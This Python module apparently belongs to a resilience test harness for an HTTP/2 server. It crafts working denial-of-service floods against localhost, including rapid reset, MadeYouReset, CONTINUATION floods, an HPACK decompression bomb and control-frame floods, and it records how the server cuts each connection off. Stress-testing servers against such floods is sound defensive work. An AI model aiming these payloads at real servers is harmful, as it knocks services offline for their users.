"""The floods, and a client that knows nothing else."""

import collections
import os
import socket
import struct
import threading
import time

from h2 import (CODES, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, LAST_STREAM, NAMES, PING, PREFACE,
                PRIORITY, RST_STREAM, WINDOW_UPDATE, Frames, frame, head, literal, number, request, settings)

CALM = {"ENHANCE_YOUR_CALM"}
HELD_UP = "held up by TCP"
NOT_CUT_OFF = "not cut off"


# Each flood: the frames of the beginning, and those of its round i; a round is large, so that Python is not what limits it.
def rapid_reset(i):
    return b"".join(head(s) + number(RST_STREAM, s, 8) for s in range(200 * i + 1, 200 * i + 201, 2))


def made_you_reset(i):
    """Whose answers have no window wait for one, and so are there to be reset when the client says that it grows by 0."""
    return b"".join(head(s, b"/large") + number(WINDOW_UPDATE, s, 0) for s in range(200 * i + 1, 200 * i + 201, 2))


def continuations(i):
    return (frame(HEADERS, 0, 1, request()) if i == 0 else b"") + frame(CONTINUATION, 0, 1, literal(b"a", b"b")) * 100


def empty_continuations(i):
    return (frame(HEADERS, 0, 1, request()) if i == 0 else b"") + frame(CONTINUATION, 0, 1) * 200


def bomb(i):
    """16 KB that become 48 MB: one field of 4,000 bytes in the table, and then 12,000 times that one."""
    large = b"\x40\x01a\x7f\xa1\x1e" + b"x" * 4000
    return frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, request() + large + b"\xbe" * 12000)


def requests(i, path=b"/large"):
    return b"".join(head(s, path) for s in range(200 * i + 1, 200 * i + 201, 2))


def stalled(i):
    """As many requests as are allowed at once, and then only signs of life until they are given up, after 3 s; and again."""
    batch, within = divmod(i, 17)
    if within:
        return frame(PING, 0, 0, b"12345678")
    return b"".join(head(s, b"/large") for s in range(256 * batch + 1, 256 * batch + 257, 2))


def table_sizes(i):
    return (settings(table=0) + settings(table=4096)) * 50


# reads: whether it reads what is answered. pause: seconds between rounds.
# ends: how it may end; who does not read what he is answered is not listened to any more, which is an end, too.
Flood = collections.namedtuple("Flood", "start again reads pause ends", defaults=(b"", None, True, 0, CALM))
FLOODS = {
    "rapid reset": Flood(again=rapid_reset),
    "MadeYouReset": Flood(start=settings(window=0), again=made_you_reset),
    "CONTINUATION": Flood(again=continuations),
    "empty CONTINUATION": Flood(again=empty_continuations),
    "HPACK bomb": Flood(again=bomb),
    "SETTINGS": Flood(again=table_sizes),
    "PING": Flood(again=lambda i: frame(PING, 0, 0, b"12345678") * 200),
    "PING, nothing read": Flood(again=lambda i: frame(PING, 0, 0, b"12345678") * 200, reads=False,
                                ends=CALM | {HELD_UP}),
    "empty DATA": Flood(start=settings() + head(1, method=b"POST", end=False), again=lambda i: frame(DATA, 0, 1) * 200),
    "PRIORITY": Flood(again=lambda i: frame(PRIORITY, 0, 1, b"\0\0\0\3\1") * 200),
    "WINDOW_UPDATE": Flood(again=lambda i: number(WINDOW_UPDATE, 0, 1) * 200),
    "zero window, more and more": Flood(start=settings(window=0), again=requests),
    "zero window, stalled": Flood(start=settings(window=0), again=stalled, pause=0.2),
    "large answers, nothing read": Flood(again=requests, reads=False, ends=CALM | {HELD_UP}),
    "small answers, nothing read": Flood(again=lambda i: requests(i, b"/"), reads=False, ends=CALM | {HELD_UP}),
}


class Abuser(threading.Thread):
    """One connection of an abuser: what it reads says why it ended."""

    def __init__(self, flood, port, until, seen):
        super().__init__(daemon=True)
        self.flood = flood
        self.until = until
        self.seen = seen
        self.sent = 0
        self.end = None
        self.connection = socket.create_connection(("127.0.0.1", port))
        self.connection.settimeout(until - time.monotonic() + 1)

    def run(self):
        """Reads to the end."""
        frames = Frames(self.connection)
        word = "no word"
        try:
            while self.end is None:
                kind, _, _, payload = frames.next()
                self.seen[NAMES[kind] if kind < len(NAMES) else "?"] += 1
                if kind == GOAWAY:
                    code = struct.unpack(">I", payload[4:8])[0]
                    word = CODES[code] if code < len(CODES) else str(code)
                    self.end = word if code else None  # With NO_ERROR it may go on for a while.
        except TimeoutError:
            pass  # Nothing more comes: it is not over.
        except OSError:
            self.end = word

    def abuse(self):
        """How it ended."""
        if self.flood.reads:
            self.start()
        held = False
        i = 0
        try:
            self.send(PREFACE + (self.flood.start or settings()))
            while time.monotonic() < self.until and self.end is None and 200 * i + 201 < LAST_STREAM:
                self.send(self.flood.again(i))
                i += 1
                time.sleep(self.flood.pause)
        except TimeoutError:
            held = True
        except OSError:
            pass  # Cut off: the frames say with which code.
        over = time.monotonic() >= self.until
        self.connection.settimeout(0.5)
        if not self.flood.reads:
            self.run()
        elif not over:
            self.join(5)
        end = self.end  # What comes by closing it is no word of the server's.
        self.connection.close()
        return end or (HELD_UP if held else NOT_CUT_OFF)

    def send(self, words):
        view = memoryview(words)
        while view:
            sent = self.connection.send(view)
            self.sent += sent  # not sendall: what a server takes before it reads no more counts, too
            view = view[sent:]


def yield_to_the_honest():
    """Both share the core of the load: the abuser takes what the honest client leaves of it, and so does not make it wait."""
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))


def abuse(name, port, seconds, results):
    """To be run in a process of its own. An abuser that is cut off connects again at once."""
    yield_to_the_honest()
    until = time.monotonic() + seconds
    ends, seen = collections.Counter(), collections.Counter()
    connections = sent = 0
    while time.monotonic() < until:
        try:
            abuser = Abuser(FLOODS[name], port, until, seen)
        except OSError:
            ends["no connection"] += 1
            continue
        ends[abuser.abuse()] += 1
        connections += 1
        sent += abuser.sent
    results.put((connections, sent, dict(ends), dict(seen)))


def spin(seconds):
    """Keeps the core as busy as an abuser may, and does nothing."""
    yield_to_the_honest()
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        pass
